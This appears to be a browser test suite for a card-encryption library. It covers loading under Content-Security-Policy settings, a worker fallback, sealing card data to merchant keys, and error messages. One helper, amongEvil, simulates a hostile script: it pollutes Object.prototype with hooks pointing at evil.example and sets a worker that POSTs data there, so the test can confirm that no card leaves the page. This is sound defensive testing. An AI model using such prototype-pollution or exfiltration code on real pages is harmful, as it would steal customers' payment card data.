// Loading under every policy and misconfiguration that a page may have, in a real browser: what is promised to work
// works, and what cannot work says in words what is missing. And the worker, for pages that forbid WebAssembly.

import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { compactDecrypt, importJWK, importPKCS8 } from 'jose';
import { serve } from '../bundlers/serve.mjs';
import { OPENERS, unwrap, vectors } from '../interop/libraries.mjs';
import { launch, root, until } from './harness.mjs';

const {
  key: { kid, jwk },
} = JSON.parse(readFileSync(path.join(root, 'tests/vectors/sealing.json'), 'utf8'));
const SESSION = {
  id: 'ses_1',
  platform: 'worldline_acquiring',
  kind: 'payment',
  mode: 'relay',
  created_at: Date.now(),
  expires_at: Date.now() + 3_600_000,
  seal: { kid, alg: 'ECDH-ES', enc: 'A256GCM', key: { kty: 'EC', crv: 'P-256', x: jwk.x, y: jwk.y } },
};
const KEY = vectors.rsa_keys.t1024;
const CARD = { number: '4242424242424242', expiry: '12/30', cvc: '739', holder: 'Ana Núñez', nickname: 'My Visa' };
const WASM = "script-src 'self' 'wasm-unsafe-eval'";
const TRUSTED = "require-trusted-types-for 'script'";

let folder;
let browser;
let context;

before(async () => {
  folder = mkdtempSync(path.join(os.tmpdir(), 'cardseal-csp-'));
  cpSync(path.join(root, 'pkg'), path.join(folder, 'pkg'), { recursive: true });
  browser = await launch();
  context = await browser.newContext();
});
after(async () => {
  await browser?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** A page with this policy, and a worker's script with that one; `more` are answers in place of files. */
async function open(t, { csp, worker, more = {}, headers = {}, workerHeaders = {} }) {
  const policy = (value) => (value ? { 'content-security-policy': value } : {});
  const site = await serve(folder, {
    headers: (name) => (name === '/pkg/worker-host.js' ? { ...policy(worker), ...workerHeaders } : {}),
    answers: {
      '/': {
        headers: { 'content-type': 'text/html', ...policy(csp), ...headers },
        body: '<!doctype html><link rel="icon" href="data:,"><input id="number">',
      },
      ...more,
    },
  });
  const page = await context.newPage();
  t.after(async () => {
    await page.close();
    await site.stop();
  });
  await page.goto(`${site.url}/`);
  return { page, site };
}

/** Loads an entry and packs; the text that was sealed, or the error. */
async function pack(page, entry, options) {
  const result = await page.evaluate(
    async ({ entry, options, key, card }) => {
      const cardseal = await import(`/pkg/${entry}.js`);
      try {
        await Promise.all([cardseal.load(options), cardseal.load(options)]);
        return await new cardseal.GreenPay({ publicKey: key }).pack({ card });
      } catch (error) {
        return {
          typed: error instanceof cardseal.CardsealError,
          code: error.code,
          retryable: error.retryable,
          message: error.message,
        };
      }
    },
    { entry, options, key: KEY.public_spki_pem, card: CARD },
  );
  if (result.lk === undefined) return result;
  const { k, s } = JSON.parse(unwrap(KEY.private_pkcs1_pem, result.lk));
  return JSON.parse(OPENERS['node:crypto'](k, s, result.ld)).card.cardNumber;
}

const works = async (...args) => assert.equal(await pack(...args), CARD.number);

async function fails(words, ...args) {
  const { message, ...rest } = await pack(...args);
  assert.deepEqual(rest, { typed: true, code: 'load_failed', retryable: true }, message);
  assert.match(message, words);
  return message;
}

// ------------------------------------------------------------------------------------------- in the page

test('policies under which the page loads the module', async (t) => {
  for (const [csp, ...entries] of [
    ['', 'index', 'inline'],
    [WASM, 'index', 'inline'],
    [`default-src 'none'; ${WASM}; connect-src 'self'`, 'index', 'inline'],
    [`default-src 'none'; ${WASM}`, 'inline'],
    [`${WASM}; ${TRUSTED}; trusted-types 'none'`, 'index', 'inline'],
  ]) {
    for (const entry of entries) await works((await open(t, { csp })).page, entry);
  }
});

test('script-src without wasm-unsafe-eval', async (t) => {
  for (const entry of ['index', 'inline']) {
    await fails(
      /Content-Security-Policy of the page lacks script-src 'wasm-unsafe-eval', or use cardseal\/worker/,
      (await open(t, { csp: "script-src 'self'" })).page,
      entry,
    );
  }
});

test('connect-src without the origin of the module', async (t) => {
  const { page, site } = await open(t, { csp: `${WASM}; connect-src 'none'` });
  const message = await fails(/Content-Security-Policy of the page lacks connect-src http/, page, 'index');
  assert.ok(message.includes(site.url));
});

test('a module that is not where it should be', async (t) => {
  const at = (answer) => open(t, { more: { '/pkg/cardseal_bg.wasm': answer } });
  const html = { 'content-type': 'text/html' };
  for (const answer of [
    { status: 404, headers: html, body: '<p>no' },
    { headers: html, body: '<p>the start page' },
    { status: 500 },
    { status: 403, headers: { 'content-type': 'text/plain' } },
  ]) {
    const { page } = await at(answer);
    await fails(
      new RegExp(
        `/pkg/cardseal_bg\\.wasm answered ${answer.status ?? 200} .*put cardseal_bg\\.wasm there or import cardseal/inline`,
      ),
      page,
      'index',
    );
  }
  for (const body of ['', 'something else', Buffer.from('0061736d01000000', 'hex')]) {
    await fails(
      /not the cardseal_bg\.wasm of this version/,
      (await at({ headers: { 'content-type': 'application/wasm' }, body })).page,
      'index',
    );
  }
});

test('the type under which the module is served does not matter', async (t) => {
  const body = readFileSync(path.join(folder, 'pkg/cardseal_bg.wasm'));
  for (const type of ['application/octet-stream', 'text/plain']) {
    await works(
      (await open(t, { more: { '/pkg/cardseal_bg.wasm': { headers: { 'content-type': type }, body } } })).page,
      'index',
    );
  }
});

test('a module of another origin, and one that does not answer', async (t) => {
  const { page } = await open(t, {});
  const body = readFileSync(path.join(folder, 'pkg/cardseal_bg.wasm'));
  const open_ = await serve(folder, {
    answers: { '/x.wasm': { headers: { 'access-control-allow-origin': '*' }, body } },
  });
  const shut = await serve(folder);
  t.after(open_.stop);
  await fails(
    /\/pkg\/cardseal_bg\.wasm cannot be fetched: it needs Access-Control-Allow-Origin/,
    page,
    'index',
    `${shut.url}/pkg/cardseal_bg.wasm?key=1`,
  );
  await shut.stop();
  await fails(/cannot be fetched/, page, 'index', `${shut.url}/pkg/cardseal_bg.wasm`);
  // After all these failures the same page loads it.
  await works(page, 'index', `${open_.url}/x.wasm`);
});

test('the address in a message has no query', async (t) => {
  const { page } = await open(t, {});
  for (const address of ['/none.wasm?secret=1#x', 'http://127.0.0.1:9/none.wasm?secret=1']) {
    assert.doesNotMatch(await fails(/none\.wasm/, page, 'index', address), /secret/);
  }
});

test('a browser without WebAssembly', async (t) => {
  const { page } = await open(t, {});
  await page.evaluate(() => {
    delete globalThis.WebAssembly;
  });
  await fails(/there is no WebAssembly here; cardseal\/fetch has a fallback$/, page, 'inline');
  await fails(/there is no WebAssembly here$/, page, 'index', { fallback: false });
  await works(page, 'index');
});

// ------------------------------------------------------------------------------------------ in the worker

test('the worker packs where the page may not', async (t) => {
  const strict = "default-src 'none'; script-src 'self'; worker-src 'self'; connect-src 'none'";
  for (const worker of ["default-src 'none'; script-src 'wasm-unsafe-eval'; connect-src 'self'", '']) {
    const { page } = await open(t, { csp: strict, worker });
    await fails(/wasm-unsafe-eval/, page, 'inline');
    await works(page, 'worker');
  }
  const trusting = `script-src 'self'; ${TRUSTED}; trusted-types shop`;
  const { page } = await open(t, { csp: trusting, worker: WASM });
  const made = (how) =>
    page.evaluate(
      async ({ how, key, card }) => {
        const { GreenPay, load, terminate } = await import('/pkg/worker.js');
        globalThis.policy ??= trustedTypes.createPolicy('shop', { createScriptURL: (url) => url });
        const url = globalThis.policy.createScriptURL('/pkg/worker-host.js');
        await load({ worker: how === 'url' ? url : new Worker(url) });
        const { ld } = await new GreenPay({ publicKey: key }).pack({ card });
        terminate();
        return ld;
      },
      { how, key: KEY.public_spki_pem, card: CARD },
    );
  for (const how of ['url', 'worker']) assert.match(await made(how), /^[0-9a-f]+$/);
});

test("a card is sealed to the merchant's key under the same policies, by the page and by the worker", async (t) => {
  const key = await importJWK(jwk, 'ECDH-ES');
  const sealed = (page, entry) =>
    page.evaluate(
      async ({ entry, session, card }) => {
        const { WorldlineAcquiring, load } = await import(`/pkg/${entry}.js`);
        await load();
        return (await new WorldlineAcquiring().payRequest(session, card, { networkToken: { cryptogram: 'AgAA' } }))
          .body;
      },
      { entry, session: SESSION, card: CARD },
    );
  for (const [csp, worker, entry] of [
    [`default-src 'none'; ${WASM}`, '', 'inline'],
    [
      "default-src 'none'; script-src 'self'; worker-src 'self'; connect-src 'none'",
      "default-src 'none'; script-src 'wasm-unsafe-eval'; connect-src 'self'",
      'worker',
    ],
  ]) {
    const { page } = await open(t, { csp, worker });
    const { session, sealed: token } = JSON.parse(await sealed(page, entry));
    assert.equal(session, SESSION.id);
    const card = JSON.parse(new TextDecoder().decode((await compactDecrypt(token, key)).plaintext));
    assert.deepEqual(
      card,
      {
        number: CARD.number,
        expiry: { month: 12, year: 2030 },
        cvc: CARD.cvc,
        holder: CARD.holder,
        network_token: { cryptogram: 'AgAA' },
      },
      entry,
    );
  }
});

test('WebCrypto needs a page over https to seal with, and says so', async (t) => {
  const site = await serve(folder, {
    answers: {
      '/': { headers: { 'content-type': 'text/html' }, body: '<!doctype html><link rel="icon" href="data:,">' },
    },
  });
  // A name that is not this machine's to the browser, and leads there all the same.
  const insecure = await launch(['--host-resolver-rules=MAP shop.example 127.0.0.1']);
  t.after(async () => {
    await insecure.close();
    await site.stop();
  });
  const page = await insecure.newPage();
  await page.goto(`http://shop.example:${new URL(site.url).port}/`);
  for (const entry of ['inline', 'worker']) {
    const said = await page.evaluate(
      async ({ entry, session, card }) => {
        const { WorldlineAcquiring, load } = await import(`/pkg/${entry}.js`);
        await load();
        return new WorldlineAcquiring().seal(session, card).then(
          () => 'sealed',
          ({ code, message }) => [isSecureContext, code, message],
        );
      },
      { entry, session: SESSION, card: CARD },
    );
    assert.deepEqual(said, [false, 'encryption_failed', 'WebCrypto needs a page over https'], entry);
  }
});

test('a worker that may not start says why', async (t) => {
  const started = async (words, options, load) => fails(words, (await open(t, options)).page, 'worker', load);
  await started(/Content-Security-Policy of the page lacks worker-src/, { csp: "worker-src 'none'" });
  await started(/Content-Security-Policy of the page lacks worker-src/, {
    csp: `default-src 'none'; script-src 'self' 'unsafe-inline'; worker-src 'none'`,
  });
  await started(/Content-Security-Policy of the worker lacks script-src 'wasm-unsafe-eval'$/, {
    csp: "script-src 'self'",
    worker: "script-src 'self'",
  });
  await started(/require-trusted-types-for: pass load\(\{ worker \}\) a Worker or a TrustedScriptURL/, {
    csp: `script-src 'self'; ${TRUSTED}`,
  });
  const place = /worker-host\.js must come from the page's origin/;
  await started(place, {}, { worker: '/nowhere.js' });
  await started(place, { workerHeaders: { 'content-type': 'text/plain' } });
  await started(place, {}, { worker: 'http://127.0.0.1:9/worker-host.js' });
  await started(/Cross-Origin-Embedder-Policy/, {
    headers: { 'cross-origin-opener-policy': 'same-origin', 'cross-origin-embedder-policy': 'require-corp' },
  });
});

test('the worker has the whole API, in promises', async (t) => {
  const { page } = await open(t, {});
  const names = await page.evaluate(async () => {
    const list = (cardseal) =>
      Object.fromEntries(
        Object.entries(cardseal).map(([name, value]) => {
          const own = (proto) =>
            proto && proto !== Object.prototype
              ? [...Object.getOwnPropertyNames(proto), ...own(Object.getPrototypeOf(proto))]
              : [];
          return [
            name,
            /^class|^[A-Z]/.test(name) && name !== 'CardsealError'
              ? [...new Set(own(value.prototype))].sort()
              : typeof value,
          ];
        }),
      );
    return [list(await import('/pkg/index.js')), list(await import('/pkg/worker.js'))];
  });
  const [inPage, inWorker] = names;
  // What the classes of the page share is their own business; what is declared is the API.
  const types = readFileSync(path.join(folder, 'pkg/index.d.ts'), 'utf8');
  for (const [name, value] of Object.entries(inPage)) {
    if (!Array.isArray(value)) continue;
    const body = new RegExp(`^declare class ${name} \\{(.*?)^\\}`, 'ms').exec(types)[1];
    const declared = [...body.matchAll(/^ {4}(?:readonly |get )?(\w+)[(:]/gm)].map(([, member]) => member).sort();
    assert.ok(declared.length > 3, name);
    assert.deepEqual(inWorker[name], [...new Set(declared)], name);
    assert.deepEqual(
      declared.filter((member) => !value.includes(member)),
      [],
      name,
    );
  }
  assert.deepEqual(Object.keys(inWorker).sort(), [...Object.keys(inPage), 'terminate'].sort());
});

test('what the worker answers and throws is what the page would', async (t) => {
  const { page } = await open(t, {});
  const [there, here] = await page.evaluate(
    async ({ key, card, session }) => {
      const input = (value) => Object.assign(document.createElement('input'), { value });
      const front = {
        access_token: 't',
        base_url: 'https://api.ccbill.com',
        client_accnum: 900684,
        client_subacc: 0,
        currency_code: 840,
      };
      const customer = {
        firstName: 'Ana',
        lastName: 'Mora',
        email: 'ana@shop.example',
        postalCode: '85281',
        country: 'US',
      };
      const use = async (cardseal) => {
        const caught = async (work) => {
          try {
            return await work();
          } catch (error) {
            return { ...error, message: error.message, typed: error instanceof cardseal.CardsealError };
          }
        };
        const early = await caught(() => cardseal.validateCard(card));
        await cardseal.load();
        const greenpay = new cardseal.GreenPay({ publicKey: key });
        const field = input('42424242');
        const brands = await cardseal.formatCardNumberInput(field);
        const date = input('1230');
        const result = [
          early,
          await greenpay.warnings,
          await cardseal.validateCard({ ...card, number: '4242' }),
          await cardseal.candidateBrands('4242'),
          await cardseal.formatCardNumber('42424', 5),
          [brands, field.value, await cardseal.formatExpiryInput(date), date.value],
          await cardseal.openSessionRequest({ kind: 'tokenize' }),
          await caught(async () => {
            await new cardseal.GreenPay({ publicKey: 'junk' }).pack({ card });
          }),
          await caught(() => greenpay.pack({ card: { ...card, number: '1' } })),
          await caught(() => greenpay.tokenize({}, card)),
          (
            await new cardseal.GpApi({ environment: 'sandbox' }).tokenizeRequest(
              { access_token: 't', reference: 'r' },
              card,
            )
          ).body,
          await caught(() => new cardseal.WorldlineAcquiring().seal(session, { ...card, cvc: '' })),
          await caught(() => new cardseal.WorldlineAcquiring().pay({ ...session, seal: {} }, card)),
          await new cardseal.CcBill().createPaymentTokenRequest(
            front,
            { ...card, holder: 'Ana' },
            { customer, verify: false },
          ),
          await new cardseal.CcBill().createPaymentTokenRequest(
            front,
            { number: card.number, expiry: card.expiry, holder: 'Ana', element: () => {} },
            { customer, verify: false },
          ),
          (await new cardseal.CcBill().createPaymentTokenRequest(front, null, { subscriptionId: '924313501000000101' }))
            .body,
          (await new cardseal.CcBill().threeDsRequiredRequest(front, card)).url,
          await caught(() =>
            new cardseal.CcBill().createPaymentTokenRequest(front, card, { customer: { ...customer, email: 'x' } }),
          ),
          await caught(() =>
            new cardseal.CcBill().createPaymentTokenRequest(front, null, { subscriptionId: 924313501000000101n }),
          ),
          (
            await new cardseal.CcBill().confirmPaymentRequest(
              { id: 'ses_1', ...front },
              { raw: { paymentTokenId: '01ab', clientAccnum: 900684, clientSubacc: 0 } },
              { idempotencyKey: 'k' },
            )
          ).headers,
          await cardseal.checkCustomer({ ...customer, country: 'us' }),
          await caught(async () => {
            await cardseal.formatCardNumberInput({});
          }),
          await cardseal.validateCard(
            new (class {
              get number() {
                return '4242';
              }
              get cvc() {
                return '1';
              }
            })(),
          ),
          await cardseal.validateCard(
            new Proxy({ ...card, expiry: new Proxy({ month: 1, year: 20 }, {}), element: () => {} }, {}),
          ),
          await caught(() => cardseal.validateCard({ ...card, number: 4242n })),
          await caught(() => cardseal.validateCard({ ...card, expiry: { month: NaN, year: 30 } })),
          await caught(() => cardseal.openSession({ server: '/nowhere' })),
          await caught(() => cardseal.openSession({ signal: AbortSignal.abort() })),
        ];
        await greenpay.free();
        return [...result, await caught(() => greenpay.pack({ card }))];
      };
      return [await use(await import('/pkg/worker.js')), await use(await import('/pkg/index.js'))];
    },
    { key: KEY.public_spki_pem, card: CARD, session: SESSION },
  );
  assert.deepEqual(there, here);
  assert.deepEqual(here.map((value) => value?.code).filter(Boolean), [
    'not_loaded',
    'key_malformed',
    'card_invalid',
    'session_malformed',
    'card_invalid',
    'session_malformed',
    'customer_invalid',
    'type_invalid',
    'type_invalid',
    'type_invalid',
    'type_invalid',
    'server_rejected',
    'request_aborted',
    'type_invalid',
  ]);
});

/** Runs in the page: with members of these names on every object, a card is sent and requests are made. */
async function amongEvil({ entry, key, card, api }) {
  const evil = 'https://evil.example';
  const stolen = [];
  const steal = (...args) => {
    stolen.push(args);
    return new Promise(() => {});
  };
  const members = {
    environment: { base: evil, checkout: evil },
    base: evil,
    checkout: evil,
    base_url: evil,
    checkout_url: evil,
    clientApiUrl: evil,
    server: evil,
    fetch: steal,
    parse: steal,
    worker: `data:text/javascript,onmessage=({data})=>fetch("${evil}",{method:"POST",body:JSON.stringify(data)})`,
    postMessage: steal,
    timeoutMs: 1,
    timeout: 1,
    sandbox: true,
    own: true,
    mode: 'relay',
    kind: 'payment',
    method: 'GET',
    headers: { 'x-evil': evil },
    body: 'x',
    redirect: 'follow',
    credentials: 'include',
    cache: 'force-cache',
    referrer: evil,
    signal: {},
    integrity: 'sha256-x',
    url: evil,
    tokenize: evil,
    update: evil,
    payment: '.evil.example/',
    number: '4000000000000002',
    cvc: '000',
    expiry: '01/30',
    holder: 'Eve',
    card: {},
    message: evil,
    status: 500,
    resolve: steal,
    reject: steal,
    byteLength: 0,
    browserData: { innerWidth: 1 },
    name: 'x',
    idempotencyKey: 'x',
    token: 'evil',
    0: evil,
    1: evil,
    '-1': evil,
  };
  for (const [name, value] of Object.entries(members))
    Object.defineProperty(Object.prototype, name, {
      __proto__: null,
      value,
      configurable: true,
      enumerable: true,
      writable: true,
    });
  try {
    const cardseal = await import(`/pkg/${entry}.js`);
    await cardseal.load();
    const token = await new cardseal.GpApi().tokenize(
      Object.assign(Object.create(null), { access_token: 't', reference: 'r', base_url: api }),
      card,
    );
    const order = { session: '2b1f0c52', token: '7d9cc4a3' };
    const greenpay = new cardseal.GreenPay({ publicKey: key });
    const urls = [
      (await greenpay.payRequest(order, card)).url,
      (await greenpay.tokenizeRequest(order, card)).url,
      (await new cardseal.GpApi({ environment: 'sandbox' }).tokenizeRequest({ access_token: 't' }, card)).url,
    ];
    const { valid } = await cardseal.validateCard(card);
    const refused = await (async () =>
      new cardseal.GpApi().tokenize({ access_token: 't', base_url: evil }, card))().catch(
      ({ code, field }) => `${code} ${field}`,
    );
    return [token.id, token.last4, urls, valid, refused, stolen.length];
  } finally {
    for (const name of Object.keys(members)) delete Object.prototype[name];
  }
}

test('what another script has put on every object leads no card elsewhere', async (t) => {
  const method = { id: 'PMT_1', card: { masked_number_last4: 'XXXXXXXXXXXX4242' } };
  for (const [entry, csp] of [
    ['index', ''],
    ['inline', ''],
    ['worker', ''],
  ]) {
    const { page, site } = await open(t, {
      csp,
      more: { '/payment-methods': { headers: { 'content-type': 'application/json' }, body: JSON.stringify(method) } },
    });
    const urls = [];
    page.on('request', (request) => urls.push(request.url()));
    const made = await page.evaluate(amongEvil, { entry, key: KEY.public_spki_pem, card: CARD, api: site.url });
    assert.deepEqual(
      made,
      [
        'PMT_1',
        '4242',
        [
          'https://sandbox-checkout.greenpay.me/',
          'https://sandbox-checkout.greenpay.me/tokenize',
          'https://apis.sandbox.globalpay.com/ucp/payment-methods',
        ],
        true,
        'session_host_refused base_url',
        0,
      ],
      entry,
    );
    assert.ok(site.seen.includes('/payment-methods'), entry);
    assert.deepEqual(
      urls.filter((url) => !url.startsWith(`${site.url}/`)),
      [],
      entry,
    );
  }
});

test('the worker encrypts for Online Payments, and tells of the browser that the page is in', async (t) => {
  const { rsa_test_key: key } = JSON.parse(readFileSync(path.join(root, 'tests/vectors/online-payments.json'), 'utf8'));
  const answer = (value) => ({ headers: { 'content-type': 'application/json' }, body: JSON.stringify(value) });
  const { page, site } = await open(t, {
    csp: "script-src 'self'; connect-src 'none'",
    worker: "script-src 'wasm-unsafe-eval'; connect-src 'self'",
    more: {
      '/client/v1/9991-0/crypto/publickey': answer({ keyId: key.key_id, publicKey: key.public_key_base64_spki }),
      '/client/v1/9991-0/services/getIINdetails': answer({ paymentProductId: 1, isAllowedInContext: true }),
      '/client/v1/9991-0/products/1': answer({
        id: 1,
        fields: [{ id: 'cvv', dataRestrictions: { validators: { length: { minLength: 3, maxLength: 3 } } } }],
      }),
    },
  });
  const made = await page.evaluate(
    async ({ card, api }) => {
      const { OnlinePayments, checkField, load, maskField, terminate } = await import('/pkg/worker.js');
      await load();
      const session = { clientSessionId: '0123', customerId: '9991-0', clientApiUrl: api };
      const client = new OnlinePayments({ device: undefined });
      const product = await client.product(session, 1, { countryCode: 'DE' });
      const { headers } = await client.publicKeyRequest(session);
      const token = await client.encrypt(session, card, { product, tokenize: true });
      const asked = await client.encrypt(session, card, {
        kind: 'tokenize',
        context: { countryCode: 'DE', currencyCode: 'EUR', amount: 1 },
      });
      const caught = await client
        .encrypt(session, { ...card, cvc: '1234' }, { product })
        .catch(({ code, problems, platform }) => ({ code, platform, problem: problems[0].code }));
      const shown = (await maskField({ id: 'x', displayHints: { mask: '{{99}}/{{99}}' } }, '1230')).text;
      const failed = await checkField(product.fields[0], '12');
      await client.free();
      const freed = await client.encrypt(session, card).catch(({ code }) => code);
      terminate();
      return {
        token,
        asked,
        caught,
        shown,
        failed,
        freed,
        meta: headers['x-gcs-clientmetainfo'],
        agent: navigator.userAgent,
        device: {
          timezoneOffsetUtcMinutes: new Date().getTimezoneOffset(),
          locale: navigator.language,
          browserData: {
            javaScriptEnabled: true,
            colorDepth: screen.colorDepth,
            screenHeight: screen.height,
            screenWidth: screen.width,
            innerHeight,
            innerWidth,
          },
        },
      };
    },
    { card: CARD, api: `${site.url}/client` },
  );
  const rsa = await importPKCS8(key.private_key_pem_pkcs8, 'RSA-OAEP');
  const opened = async (token) => JSON.parse(Buffer.from((await compactDecrypt(token, rsa)).plaintext).toString());
  const payload = await opened(made.token);
  assert.ok(payload.collectedDeviceInformation.browserData.screenWidth > 0, 'the page has a screen, the worker none');
  assert.deepEqual(payload.collectedDeviceInformation, made.device);
  assert.deepEqual(
    [payload.tokenize, payload.paymentProductId, payload.paymentValues[0].value, payload.paymentValues[1].value],
    [true, 1, CARD.number, CARD.holder],
  );
  assert.deepEqual((await opened(made.asked)).paymentValues.at(-1), { key: 'paymentProductId', value: 1 });
  const meta = JSON.parse(Buffer.from(made.meta, 'base64').toString());
  assert.deepEqual(
    [meta.screenSize, meta.platformIdentifier],
    [`${made.device.browserData.innerWidth}x${made.device.browserData.innerHeight}`, made.agent],
  );
  assert.deepEqual(made.caught, { code: 'card_invalid', platform: 'online_payments', problem: 'cvc_length' });
  assert.deepEqual([made.shown, made.failed, made.freed], ['12/30', ['length'], 'type_invalid']);
  assert.equal(site.seen.filter((name) => name.endsWith('/publickey')).length, 1);
});

test('card data crosses once for each call, and never back', async (t) => {
  const { page } = await open(t, {});
  const crossed = await page.evaluate(
    async ({ key, card }) => {
      const { GreenPay, OnlinePayments, load } = await import('/pkg/worker.js');
      const worker = new Worker('/pkg/worker-host.js', { type: 'module' });
      const messages = { to: [], from: [] };
      const post = worker.postMessage.bind(worker);
      worker.postMessage = (data) => {
        messages.to.push(JSON.stringify(data));
        post(data);
      };
      worker.addEventListener('message', ({ data }) => messages.from.push(JSON.stringify(data)));
      await load({ worker });
      await new GreenPay({ publicKey: key }).pack({ card });
      // The platform is not there: what is thrown comes back.
      const session = { clientSessionId: '0123', customerId: '9991-0', clientApiUrl: 'http://127.0.0.1:1/client' };
      await new OnlinePayments()
        .encrypt(session, card, { paymentProductId: 1 })
        .catch(({ code }) => messages.from.push(code));
      return messages;
    },
    { key: KEY.public_spki_pem, card: CARD },
  );
  assert.equal(crossed.to.filter((text) => text.includes(CARD.number)).length, 2);
  assert.equal(crossed.from.at(-1), 'network_failed');
  assert.equal(crossed.from.filter((text) => text.includes(CARD.number) || text.includes(`"${CARD.cvc}"`)).length, 0);
});

test('the worker sends, can be told to stop, and can be ended', async (t) => {
  const { page, site } = await open(t, {
    csp: "script-src 'self'; connect-src 'none'",
    worker: "script-src 'wasm-unsafe-eval'; connect-src 'self'",
    more: { '/slow/v1/sessions': { never: true } },
  });
  const asked = (times) =>
    until(`request ${times}`, () => site.seen.filter((name) => name === '/slow/v1/sessions').length === times);
  await page.evaluate(async () => {
    const { load, openSession } = await import('/pkg/worker.js');
    globalThis.code = (promise) =>
      promise.then(
        () => 'done',
        (error) => `${error.code} ${error.retryable}`,
      );
    await load();
    globalThis.stop = new AbortController();
    globalThis.stopped = globalThis.code(openSession({ server: '/slow', signal: globalThis.stop.signal }));
  });
  await asked(1);
  await page.evaluate(async () => {
    const { openSession } = await import('/pkg/worker.js');
    globalThis.stop.abort();
    globalThis.first = await globalThis.stopped;
    globalThis.ended = globalThis.code(openSession({ server: '/slow' }));
  });
  await asked(2);
  const results = await page.evaluate(async () => {
    const { load, openSession, terminate, GreenPay } = await import('/pkg/worker.js');
    const { code, first } = globalThis;
    terminate();
    const second = await globalThis.ended;
    const third = await code((async () => new GreenPay({ publicKey: '' }).warnings)());
    await load();
    const fourth = await code(openSession({ fetch: () => {} }));
    return [first, second, third, fourth, await code(load())];
  });
  assert.deepEqual(results, [
    'request_aborted false',
    'request_aborted false',
    'not_loaded false',
    'type_invalid false',
    'done',
  ]);
});
